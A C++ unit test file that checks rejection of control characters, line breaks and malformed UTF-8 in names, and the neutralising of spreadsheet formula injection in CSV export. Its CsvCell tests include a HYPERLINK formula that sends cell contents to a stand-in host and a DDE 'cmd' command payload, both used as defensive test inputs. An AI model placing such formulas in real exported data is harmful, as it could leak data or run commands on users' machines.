// Text a client sent, checked where it comes in and written out safely: the control and
// line-breaking characters a one-line name may not hold (server/base/utf8.h), and CSV cells that
// a spreadsheet shows as text instead of running them as formulas (usecases/csv_cell.h).
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "server/base/utf8.h"
#include "usecases/csv_cell.h"

namespace km {
namespace {

using server::HasControlOrLineBreak;
using usecases::CsvCell;
using usecases::IsCsvDecimalNumber;

TEST(HasControlOrLineBreak, RefusesEveryControlLineBreakAndInvalidSequence) {
  std::vector<std::string> refused;
  for (int b = 0; b < 0x20; ++b) refused.push_back("a" + std::string(1, char(b)) + "b");  // C0
  refused.push_back(
      "a\x7F"
      "b");  // DEL
  for (int b = 0x80; b <= 0x9F; ++b) {
    refused.push_back("a\xC2" + std::string(1, char(b)) + "b");  // C1, U+0085 NEL among them
  }
  for (const std::string& s :
       {std::string("\xE2\x80\xA8"), std::string("\xE2\x80\xA9"), std::string("x\xE2\x80\xA9"),
        std::string("\xE2\x80\xAE"), std::string("\xE2\x80\x8B"), std::string("\xEF\xBB\xBF"),
        std::string("\r"), std::string("\n"), std::string("\t"), std::string("\0", 1),
        std::string("\xFF"), std::string("\xC2"), std::string("\xE2\x80"),
        std::string("\xC0\x8A"),       // overlong LF
        std::string("\xE0\x81\x85"),   // overlong
        std::string("\xED\xA0\x80")})  // surrogate
  {
    refused.push_back(s);
  }
  for (const auto& s : refused)
    EXPECT_TRUE(HasControlOrLineBreak(s)) << ::testing::PrintToString(s);
}

TEST(HasControlOrLineBreak, AcceptsPrintableTextAndTheNeighboursOfTheRefusedRanges) {
  for (const std::string& s :
       {std::string(""), std::string("line 3 uploader"), std::string("~ !\"#"),
        std::string("Prüfstand µm ± 0.5 °C"), std::string("\xC2\xA0"),  // U+00A0 NBSP
        std::string("\xC3\x85"),                                        // U+00C5, not C1
        std::string("\xE2\x80\xA7"), std::string("\xE2\x80\xAF"),       // U+2027, U+202F
        std::string("\xE2\x82\xAC"),                                    // U+20AC €
        std::string("日本語"), std::string("\xF0\x9F\x98\x80")}) {
    EXPECT_FALSE(HasControlOrLineBreak(s)) << ::testing::PrintToString(s);
  }
}

TEST(CsvCell, NeutralisesTextThatASpreadsheetWouldRunAsAFormula) {
  EXPECT_EQ(CsvCell("=HYPERLINK(\"http://example.invalid/?\"&A1)"),
            "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1)\"");
  EXPECT_EQ(CsvCell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
  EXPECT_EQ(CsvCell("=1+1"), "'=1+1");
  EXPECT_EQ(CsvCell("+1+1"), "'+1+1");
  EXPECT_EQ(CsvCell("-1+1"), "'-1+1");
  EXPECT_EQ(CsvCell("@SUM(A1:A2)"), "'@SUM(A1:A2)");
  EXPECT_EQ(CsvCell("\t=1+1"), "'\t=1+1");
  EXPECT_EQ(CsvCell("\r=1+1"), "\"'\r=1+1\"");
  EXPECT_EQ(CsvCell("-"), "'-");
  EXPECT_EQ(CsvCell("-1.2 3.4"), "'-1.2 3.4");
  EXPECT_EQ(CsvCell("-1e999"), "'-1e999");  // not a finite number
  EXPECT_EQ(CsvCell("-inf"), "'-inf");
  EXPECT_EQ(CsvCell("-nan"), "'-nan");
  EXPECT_EQ(CsvCell("-0x10"), "'-0x10");
}

TEST(CsvCell, KeepsNumbersAndPlainTextAndQuotesWhereNeeded) {
  for (const std::string_view n : {"-3.25", "-1e-3", "+4", "0", "-0", ".5", "-.5", "5.", "1E+5",
                                   "-12345678901234567890", "-1e-999"}) {
    EXPECT_TRUE(IsCsvDecimalNumber(n)) << n;
    EXPECT_EQ(CsvCell(n), n);
  }
  for (const std::string_view t : {"", "-", ".", "e5", "1e", "1e+", "--1", "1.2.3", " 1", "1 ",
                                   "0x1", "inf", "nan", "1e999", "١"}) {
    EXPECT_FALSE(IsCsvDecimalNumber(t)) << t;
  }
  EXPECT_EQ(CsvCell(""), "");
  EXPECT_EQ(CsvCell("xy-ccw 1"), "xy-ccw 1");
  EXPECT_EQ(CsvCell("a=b"), "a=b");  // only the first character counts
  EXPECT_EQ(CsvCell("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvCell("a;b"), "\"a;b\"");
  EXPECT_EQ(CsvCell("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvCell("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(CsvCell("dbb-ccw.txt"), "dbb-ccw.txt");
}

}  // namespace
}  // namespace km
